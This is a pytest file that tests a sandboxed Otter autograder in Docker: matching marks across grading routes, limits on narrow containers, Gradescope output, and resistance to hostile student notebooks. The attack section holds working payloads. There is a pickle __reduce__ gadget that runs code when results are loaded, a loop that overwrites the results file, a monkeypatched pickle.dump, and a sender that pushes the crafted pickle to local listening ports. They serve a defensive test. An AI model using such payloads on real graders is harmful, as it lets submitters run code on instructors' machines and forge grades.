"""Otter in real containers: the marks of every route, attacks on the host, narrow containers, Gradescope.

Needs Docker and the image (`make image`); `tests/docker/run.sh` makes both on a bare Debian.
"""

import contextlib
import csv
import io
import json
import pickle
import shutil
import subprocess
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import dill
import nbformat
import pytest
from answers import RIGHT, WRONG
from answers.entries import whole
from python_on_whales import DockerException, docker
from zoo import notebooks
from zoo.hostile.on_plain import _autograder as plain_autograder

from assignment import samples
from autograder import docker as image
from autograder.__main__ import main
from autograder.docker import batch
from autograder.handout import build
from autograder.intake import submissions
from lab.questions import QUESTIONS

GRADESCOPE = "otter-grade:gradescope"  # made by run.sh: the zip on Otter's default image, Ubuntu 22.04
ZOO = [*whole(RIGHT)[::40], *whole(WRONG)[::40]]

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def base() -> str:
    """The image of `make image`."""
    try:
        image.require_engine()
    except image.EngineError as error:
        pytest.skip(str(error))
    if not docker.image.exists(image.name()):
        pytest.skip(f"there is no image {image.name()}: make image")
    return image.name()


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build.autograder(tmp_path_factory.mktemp("dist"))


@pytest.fixture(scope="module")
def grading(base: str, archive: Path) -> str:
    """The image that Otter itself builds of the zip."""
    return otter_build(archive, base, "tests")


def otter_build(archive: Path, base: str, tag: str) -> str:
    from otter.grade.containers import build_image
    from otter.run import AutograderConfig

    return str(build_image(str(archive), base, tag, AutograderConfig({})))


# ---- the marks of every route ----


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The samples, a slice of the zoo, and a zip with a module beside the notebook."""
    folder = samples.write(tmp_path_factory.mktemp("class"))
    for entry in ZOO:
        (folder / f"{entry.name}.ipynb").write_bytes(submissions.write(notebooks.make(entry)))
    with zipfile.ZipFile(folder / "with-a-module.zip", "w") as zipped:
        zipped.write(folder / "small-slips.ipynb", "mine/tiny_vgg.ipynb")
        zipped.writestr("mine/helper.py", "FACTOR = 1\n")
    return folder


@pytest.fixture(scope="module")
def ours(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    out = tmp_path_factory.mktemp("gradebook")
    assert main(["grade", "--submissions", str(folder), "--out", str(out)]) == 0
    return {row["submission"]: row for row in table(out / "grades.csv")}


@pytest.fixture(scope="module")
def of_containers(
    folder: Path, base: str, archive: Path, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, dict[str, str]]:
    out = tmp_path_factory.mktemp("otter-grade")
    batch.grade(folder, out, archive, base)
    assert (out / "needs_review.txt").read_text() == ""
    return {Path(row["file"]).stem: row for row in table(out / "final_grades.csv")}


@pytest.fixture(scope="module")
def of_otter_run(folder: Path, archive: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, float]]:
    def marks(path: Path) -> dict[str, float]:
        out = tmp_path_factory.mktemp("otter-run")
        command = [sys.executable, "-m", "otter", "run", "-a", str(archive), "-o", str(out), str(path)]
        subprocess.run(command, cwd=out, capture_output=True, check=True)
        return marks_of(out)

    paths = sorted(folder.glob("*.ipynb"))
    with ThreadPoolExecutor(2) as pool:
        return dict(zip((path.stem for path in paths), pool.map(marks, paths), strict=True))


def table(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def marks_of(results: Path) -> dict[str, float]:
    """Question -> marks, of a results.json."""
    tests = json.loads((results / "results.json").read_text())["tests"]
    return {test["name"]: test["score"] for test in tests if "score" in test}


def test_every_route_gives_the_same_marks(
    ours: dict[str, dict[str, str]],
    of_containers: dict[str, dict[str, str]],
    of_otter_run: dict[str, dict[str, float]],
) -> None:
    """To the last digit: all marks are multiples of a half, which floats hold exactly."""
    assert ours.keys() == of_containers.keys() - {batch.POSSIBLE}
    assert ours.keys() == {*of_otter_run, "with-a-module"}
    assert len(ours) == len(samples.SAMPLES) + len(ZOO) + 1
    for name, row in ours.items():
        wanted = {question: float(row[question]) for question in QUESTIONS.points}
        assert {q: float(of_containers[name][q]) for q in QUESTIONS.points} == wanted, name
        assert of_otter_run.get(name, wanted) == wanted, name
        assert float(of_containers[name]["total_points_earned"]) == float(row["score"]), name
        assert of_containers[name]["grading_status"] == "Completed"
        assert row["status"] == "graded"
    for sample in samples.SAMPLES:
        assert {q: float(ours[sample.name][q]) for q in QUESTIONS.points} == sample.marks(), sample.name
    for entry in ZOO:
        marks = QUESTIONS.points.get(entry.question) if entry.marks is None else entry.marks
        assert marks is None or float(ours[entry.name][entry.question]) == marks, entry.name


def test_otter_knows_the_same_maximum(of_containers: dict[str, dict[str, str]]) -> None:
    possible = of_containers[batch.POSSIBLE]
    assert {q: float(possible[q]) for q in QUESTIONS.points} == QUESTIONS.points
    assert float(possible["total_points_earned"]) == 110


# ---- attacks ----

# Each makes the file MARKER on the machine that loads Otter's results: the instructor's, where `otter grade` runs.
LOOT = """
import os, pickle, subprocess, sys
class Loot:
    def __reduce__(self):
        return eval, ("(open(MARKER, 'w').close(), __import__('otter.test_files').test_files.GradingResults([]))[1]",)
CRAFTED = pickle.dumps(Loot())
# What a process that loads it does: it stores the crafted results instead of its own, and goes on.
class Turncoat:
    def __reduce__(self):
        code = "import dill; dill.dump = lambda value, file: file.write(CRAFTED)".replace("CRAFTED", repr(CRAFTED))
        return eval, (f"(exec({code!r}), __import__('otter.test_files').test_files.GradingResults([]))[1]",)
"""
ATTACKS = {
    "overwrites the results file from the background": """
code = '''
import glob, time
while True:
    for path in ["/autograder/results/results.pkl", *glob.glob("/tmp/*/results/results.pkl")]:
        try:
            open(path, "wb").write(CRAFTED)
        except OSError:
            pass
    time.sleep(0.001)
'''.replace("CRAFTED", repr(CRAFTED))
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
""",
    "hands a crafted pickle to the grader": """
before = pickle.dump
def dump(value, file, *arguments, **options):
    if type(value).__name__ == "GradingResults":
        return file.write(pickle.dumps(Turncoat()))
    return before(value, file, *arguments, **options)
pickle.dump = dump
""",
    "sends a pickle to the log server": """
import socket, struct
message = pickle.dumps(Turncoat())
for line in open("/proc/net/tcp").read().splitlines()[1:]:
    address, state = line.split()[1], line.split()[3]
    if state == "0A":
        try:
            with socket.create_connection(("127.0.0.1", int(address.split(":")[1], 16)), timeout=1) as door:
                door.sendall(struct.pack(">L", len(message)) + message)
        except OSError:
            pass
""",
}


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Otter without our plugin, on our image: the zoo's plain notebook, and a start that needs no conda."""
    folder = tmp_path_factory.mktemp("plain")
    start = b"#!/bin/bash\nexec /opt/tiny-vgg/bin/python /autograder/source/run_otter.py\n"
    return changed(plain_autograder(folder), folder / "plain.zip", {"setup.sh": b"", "run_autograder": start})


@pytest.fixture(scope="module")
def trusting(archive: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Our zip, which runs also what reaches for the grader: so that it is the sandbox that is tried."""
    plugin = {"autograder.otter_plugin.SandboxPlugin": {"trust": True}}
    config = json.loads(zipfile.ZipFile(archive).read("otter_config.json")) | {"plugins": [plugin]}
    path = tmp_path_factory.mktemp("trusting") / "autograder.zip"
    return changed(archive.read_bytes(), path, {"otter_config.json": json.dumps(config).encode()})


def changed(archive: bytes, path: Path, files: dict[str, bytes]) -> Path:
    """The same zip with other content of some files."""
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():
            new.writestr(info, files.get(info.filename, old.read(info)))
    return path


def attackers(folder: Path) -> dict[str, Path]:
    """A blank notebook for each attack, which comes first; attack -> the file that it makes where it succeeds."""
    markers = {}
    (folder / "class").mkdir()
    for name, code in ATTACKS.items():
        marker = markers[name] = folder / f"taken over by one that {name}".replace(" ", "-")
        notebook = build.handout()
        source = LOOT.replace("MARKER", repr(str(marker))) + code
        notebook.cells.insert(0, nbformat.v4.new_code_cell(source))
        (folder / "class" / f"{name}.ipynb").write_bytes(submissions.write(notebook))
    return markers


def test_attacks_take_over_the_machine_that_runs_plain_otter_grade(base: str, plain: Path, tmp_path: Path) -> None:
    """Else the next test would show nothing."""
    markers = attackers(tmp_path)
    with contextlib.suppress(RuntimeError):  # of results that are none: by then it is too late
        batch.grade(tmp_path / "class", tmp_path / "out", plain, base)
    assert [name for name, marker in markers.items() if not marker.exists()] == []


def test_attacks_do_not_leave_our_containers(base: str, trusting: Path, tmp_path: Path) -> None:
    markers = attackers(tmp_path)
    batch.grade(tmp_path / "class", tmp_path / "out", trusting, base)
    rows = {Path(row["file"]).stem: row for row in table(tmp_path / "out" / "final_grades.csv")}
    assert [name for name, marker in markers.items() if marker.exists()] == []
    for name in ATTACKS:
        assert rows[name]["grading_status"] == "Completed", name
        assert float(rows[name]["total_points_earned"]) == 0, name


def test_one_that_reaches_for_the_grader_waits_for_a_person(base: str, archive: Path, tmp_path: Path) -> None:
    notebook = build.handout()
    notebook.cells.insert(0, nbformat.v4.new_code_cell("import labkit.judging\nlab.judging.judge = None"))
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "reaches.ipynb").write_bytes(submissions.write(notebook))
    batch.grade(tmp_path / "class", tmp_path / "out", archive, base)
    lines = (tmp_path / "out" / "needs_review.txt").read_text().splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("reaches.ipynb: ")
    assert "It was not run; a person decides." in lines[0]


def test_results_are_data_and_classes_of_otter_and_nbformat(grading: str, tmp_path: Path, folder: Path) -> None:
    """Every class and function that loading the results looks up."""
    found = set()

    class Recorder(dill.Unpickler):  # type: ignore[misc]
        def find_class(self, module: str, name: str) -> Any:
            found.add((module.split(".")[0], name))
            return super().find_class(module, name)

    run(grading, folder / "small-slips.ipynb", tmp_path)
    with (tmp_path / "results" / "results.pkl").open("rb") as file:
        results = Recorder(file).load()
    assert results.total == sum(next(s for s in samples.SAMPLES if s.name == "small-slips").marks().values())
    assert {module for module, _ in found} == {"otter", "nbformat"}


# ---- narrow containers ----


def run(grading: str, submission: Path, folder: Path, **options: Any) -> str:
    """Grade one submission in a container, without a network; its output. Results are put into `folder / "results"`."""
    for name in ("submission", "results"):
        (folder / name).mkdir()
    (folder / "results").chmod(0o777)
    shutil.copy(submission, folder / "submission")
    (folder / "submission" / submission.name).chmod(0o644)
    volumes = [
        (folder / "submission", "/autograder/submission", "ro"),
        (folder / "results", "/autograder/results"),
    ]
    folder.chmod(0o755)
    options = {"networks": ["none"], "volumes": volumes, "remove": True} | options
    return str(docker.run(grading, ["/autograder/run_autograder"], **options))


def wanted(name: str) -> dict[str, float]:
    return next(sample for sample in samples.SAMPLES if sample.name == name).marks()


@pytest.mark.parametrize(
    "options",
    [
        {},
        {"read_only": True, "tmpfs": ["/tmp"]},
        {"user": "1000:1000"},
        {"cap_drop": ["ALL"], "user": "1000:1000", "read_only": True, "tmpfs": ["/tmp"], "memory": "4g"},
        {"memory": "2g"},
    ],
    ids=["no network", "read-only root", "no root", "all at once", "2 GB"],
)
def test_a_narrow_container_gives_the_same_marks(
    grading: str, folder: Path, tmp_path: Path, options: dict[str, Any]
) -> None:
    name = "ran-out-of-time"
    run(grading, folder / f"{name}.ipynb", tmp_path, **options)
    assert marks_of(tmp_path / "results") == wanted(name)


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"read_only": True}, "error: user 0 cannot write to /tmp: start the container with --tmpfs /tmp"),
        (
            {"volumes": [], "user": "1000:1000"},
            "error: user 1000 cannot write to /autograder/results: mount a folder there that this user may change",
        ),
        (
            {"memory": "1g"},
            "error: this machine has no memory left. Give the container 4 GB, or grade fewer at a time",
        ),
    ],
    ids=["no /tmp", "no results", "1 GB"],
)
def test_a_container_that_is_too_narrow_says_what_it_needs(
    grading: str,
    folder: Path,
    tmp_path: Path,
    options: dict[str, Any],
    words: str,
    capfd: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(DockerException):
        run(grading, folder / "solution.ipynb", tmp_path, **options)
    assert words in capfd.readouterr().err
    assert not (tmp_path / "results" / "results.json").exists()


# ---- Gradescope ----


def test_gradescope_gets_results_in_its_form(folder: Path, tmp_path: Path) -> None:
    """Its layout, its metadata, the environment that setup.sh makes on a bare Ubuntu."""
    if not docker.image.exists(GRADESCOPE):
        pytest.skip(f"there is no image {GRADESCOPE}: tests/docker/run.sh")
    metadata = tmp_path / "submission_metadata.json"
    users = [{"email": "ada@example.org", "id": 1, "name": "Ada"}]
    metadata.write_text(json.dumps({"id": 1, "users": users, "assignment": {"total_points": "100.0"}}))
    metadata.chmod(0o644)
    volumes = [
        (tmp_path / "submission", "/autograder/submission", "ro"),
        (tmp_path / "results", "/autograder/results"),
        (metadata, "/autograder/submission_metadata.json", "ro"),
    ]
    run(GRADESCOPE, folder / "small-slips.ipynb", tmp_path, volumes=volumes)
    results = json.loads((tmp_path / "results" / "results.json").read_text())
    assert marks_of(tmp_path / "results") == wanted("small-slips")
    for test in results["tests"]:
        assert test.keys() >= {"name", "visibility", "output"}
        assert test["visibility"] in ("hidden", "after_due_date", "after_published", "visible")
        assert test["name"] == "Public Tests" or 0 <= test["score"] <= test["max_score"]
    assert pickle.loads((tmp_path / "results" / "results.pkl").read_bytes()).possible == 110
